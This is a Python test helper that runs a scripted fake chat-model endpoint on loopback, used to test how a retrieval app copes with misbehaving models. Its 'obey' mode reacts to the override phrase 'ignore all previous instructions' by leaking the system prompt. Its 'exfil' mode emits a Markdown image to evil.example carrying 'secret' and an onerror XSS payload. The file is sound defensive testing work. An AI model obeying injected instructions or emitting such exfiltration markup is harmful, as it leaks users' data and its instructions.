"""A scripted model endpoint on loopback speaking OpenAI chat completions and Ollama /api/chat, streaming or not.

Deterministic and dependent on its input: it reads the numbered passages and the question from the prompt it
receives and answers with, from passages 1 and 2, the line sharing most words with the question, marked [1]
and [2]. A test sets `mode` to make it misbehave: cite wrong or missing passages ("wrong"), add an invented
statement ("invent"), obey an instruction found in a passage ("obey"), carry a Markdown image ("exfil"),
answer with uncited prose ("uncited"), stall ("stall"), trickle tokens slowly ("trickle"), fail with HTTP 500
("error") or send a body that is not the API's JSON ("garbage"). Every request body is kept in `requests`.

Run it by hand for `cabinet eval --mode llm`: `python -m tests.scripted_llm --port 8901`, then
CABINET_LLM_URL=http://127.0.0.1:8901/v1 CABINET_LLM_MODEL=scripted.
"""

from __future__ import annotations

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

INVENTED = "The council will build a spaceport on the Moon by 2031"
_WORD = re.compile(r"[a-z0-9£]+")


def passages(prompt: str) -> dict[int, list[str]]:
    """The numbered passages of an answer prompt: number -> lines of text (the title line left out)."""
    block = prompt.split("<<<PASSAGES", 1)[-1].split("PASSAGES>>>", 1)[0]
    found: dict[int, list[str]] = {}
    current = None
    for line in block.splitlines():
        header = re.match(r"^\[(\d+)\] ", line)
        if header:
            current = int(header.group(1))
            found[current] = []
        elif current is not None and line.strip():
            found[current].append(line.strip())
    return found


def reply(messages: list[dict], mode: str) -> str:
    """The scripted reply to a conversation."""
    system = next((m["content"] for m in messages if m["role"] == "system"), "")
    prompt = messages[-1]["content"]
    if "Standalone question:" in prompt:
        earlier = [line[6:] for line in prompt.splitlines() if line.startswith("user: ")]
        follow_up = re.search(r"^Follow-up: (.*)$", prompt, re.MULTILINE)
        return " ".join(earlier[-1:] + [follow_up.group(1) if follow_up else ""]).strip()
    question = re.search(r"^Question: (.*)$", prompt, re.MULTILINE)
    asked = set(_WORD.findall((question.group(1) if question else "").lower()))
    found = passages(prompt)
    if mode == "uncited":
        return "Thank you for your question. I hope this helps you with your work."
    if mode == "obey" and any("ignore all previous instructions" in " ".join(lines).lower() for lines in found.values()):
        return f"The council has been abolished [1].\nMy instructions say: {system.splitlines()[0]} [1]"
    lines = []
    for n in sorted(found)[:2]:
        best = max(found[n], key=lambda line: len(asked & set(_WORD.findall(line.lower()))))
        lines.append([best, n])
    if mode == "wrong" and lines:
        lines[0][1] = 2 if len(found) > 1 else 99
        if len(lines) > 1:
            lines[1][1] = 99
    text = "\n".join(f"{line} [{n}]" for line, n in lines)
    if mode == "invent":
        text += f"\n{INVENTED} [1]."
    if mode == "exfil" and lines:
        text = f"{lines[0][0]} ![x](http://evil.example/leak?d=secret) <img src=x onerror=alert(1)> [{lines[0][1]}]\n" + text
    return text or "The documents don't say."


def pieces(text: str) -> list[str]:
    """The reply cut into small streaming deltas (words with their spaces)."""
    return re.findall(r"\S+\s*|\s+", text)


class ScriptedLLM:
    """The scripted endpoint, on 127.0.0.1 and a free port; use as a context manager."""

    def __init__(self, mode: str = "normal", stall_seconds: float = 30.0) -> None:
        self.mode = mode
        self.stall_seconds = stall_seconds
        self.requests: list[dict] = []
        self.stopping = threading.Event()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, name="scripted-llm", daemon=True)

    @property
    def base(self) -> str:
        """http://127.0.0.1:PORT"""
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def openai_url(self) -> str:
        """Base URL for an OpenAI-compatible client."""
        return self.base + "/v1"

    def __enter__(self) -> ScriptedLLM:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()

    def _handler(self):
        scripted = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def do_POST(self) -> None:
                try:
                    self._answer()
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up (a timeout test): nothing to answer

            def _answer(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
                scripted.requests.append({"path": self.path, **body})
                ollama = self.path.rstrip("/").endswith("/api/chat")
                if not ollama and not self.path.rstrip("/").endswith("/chat/completions"):
                    return self._send(404, b'{"error": "not found"}', "application/json")
                mode = scripted.mode
                if mode == "stall":
                    scripted.stopping.wait(scripted.stall_seconds)
                if mode == "error":
                    return self._send(500, b'{"error": {"message": "scripted failure", "type": "server_error"}}', "application/json")
                if mode == "garbage":
                    return self._send(200, b"<html>upstream proxy says hello", "application/json")
                text = reply(body.get("messages", []), mode)
                model = body.get("model", "scripted")
                if not body.get("stream"):
                    return self._send(200, json.dumps(self._ollama(model, text, True) if ollama else self._completion(model, text)).encode(), "application/json")
                self.send_response(200)
                self.send_header("Content-Type", "application/x-ndjson" if ollama else "text/event-stream")
                self.send_header("Connection", "close")
                self.end_headers()
                self.close_connection = True
                for piece in pieces(text):
                    if mode == "trickle" and scripted.stopping.wait(0.4):
                        return
                    self._event(self._ollama(model, piece, False) if ollama else self._chunk(model, {"role": "assistant", "content": piece}, None), ollama)
                if ollama:
                    self._event(self._ollama(model, "", True), ollama)
                else:
                    self._event(self._chunk(model, {}, "stop"), ollama)
                    self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()

            def _send(self, status: int, payload: bytes, kind: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            def _event(self, data: dict, ollama: bool) -> None:
                line = json.dumps(data).encode()
                self.wfile.write(line + b"\n" if ollama else b"data: " + line + b"\n\n")
                self.wfile.flush()

            @staticmethod
            def _completion(model: str, text: str) -> dict:
                return {"id": "chatcmpl-scripted", "object": "chat.completion", "created": int(time.time()), "model": model,
                        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
                        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}

            @staticmethod
            def _chunk(model: str, delta: dict, finish: str | None) -> dict:
                return {"id": "chatcmpl-scripted", "object": "chat.completion.chunk", "created": int(time.time()), "model": model,
                        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}

            @staticmethod
            def _ollama(model: str, text: str, done: bool) -> dict:
                row = {"model": model, "created_at": "2026-01-01T00:00:00Z", "message": {"role": "assistant", "content": text}, "done": done}
                if done:
                    row.update(done_reason="stop", total_duration=1, load_duration=1, prompt_eval_count=1, prompt_eval_duration=1,
                               eval_count=1, eval_duration=1)
                return row

        return Handler


if __name__ == "__main__":
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8901)
    parser.add_argument("--mode", default="normal")
    args = parser.parse_args()
    endpoint = ScriptedLLM(args.mode)
    endpoint.server.server_close()
    endpoint.server = ThreadingHTTPServer(("127.0.0.1", args.port), endpoint._handler())
    endpoint.server.daemon_threads = True
    print(f"scripted model endpoint on {endpoint.openai_url} (OpenAI) and {endpoint.base}/api/chat (Ollama), mode {args.mode}", flush=True)
    endpoint.server.serve_forever()
